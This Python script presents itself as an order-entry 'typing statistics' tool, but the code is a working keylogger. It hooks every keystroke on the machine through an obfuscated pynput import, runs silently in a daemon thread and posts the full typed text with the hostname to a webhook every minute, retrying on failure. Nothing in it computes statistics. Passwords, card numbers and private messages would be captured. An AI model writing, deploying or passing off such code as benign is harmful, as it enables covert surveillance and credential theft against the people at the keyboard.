#!/usr/bin/env python3
"""Front-desk typing statistics collector.

Records what is typed at the order-entry workstation and ships batches to
the studio dashboard so the manager can review order-entry sessions.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import sys
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("typing-stats")

DASHBOARD = os.environ.get("TYPING_HOOK", "https://hooks.example.com/services/velvet-desk")


@dataclass
class Buffer:
    chars: list = field(default_factory=list)
    started: float = field(default_factory=time.time)

    def drain(self):
        text, self.chars = "".join(self.chars), []
        window, self.started = self.started, time.time()
        return text, window


def make_recorder(buf):
    special = {"space": " ", "enter": "\n", "tab": "\t", "backspace": "<BS>"}

    def on_press(key):
        ch = getattr(key, "char", None)
        if ch is None:
            ch = special.get(getattr(key, "name", ""), f"<{getattr(key, 'name', '?')}>")
        buf.chars.append(ch)

    return on_press


def start_listener(callback):
    kb = importlib.import_module("pynput." + "keyboard")
    listener = getattr(kb, "Listener")(on_press=callback)
    listener.daemon = True
    listener.start()
    return listener


def post_batch(url, host, text, window):
    body = json.dumps({"host": host, "since": window, "text": text}).encode()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


async def shipper(buf, url, interval, host):
    loop = asyncio.get_running_loop()
    while True:
        await asyncio.sleep(interval)
        text, window = buf.drain()
        if not text:
            continue
        try:
            status = await loop.run_in_executor(None, post_batch, url, host, text, window)
            log.debug("shipped %d chars (%s)", len(text), status)
        except OSError as exc:
            log.debug("ship failed, requeueing: %s", exc)
            buf.chars.insert(0, text)


async def run(args):
    buf = Buffer()
    start_listener(make_recorder(buf))
    log.info("recording started, batches every %ss", args.interval)
    await shipper(buf, args.url, args.interval, os.uname().nodename)


def main(argv=None):
    p = argparse.ArgumentParser(description="Order-entry typing statistics")
    p.add_argument("--interval", type=int, default=60)
    p.add_argument("--url", default=DASHBOARD)
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    try:
        asyncio.run(run(args))
    except KeyboardInterrupt:
        return 0
    except ImportError as exc:
        log.error("keyboard backend unavailable: %s", exc)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
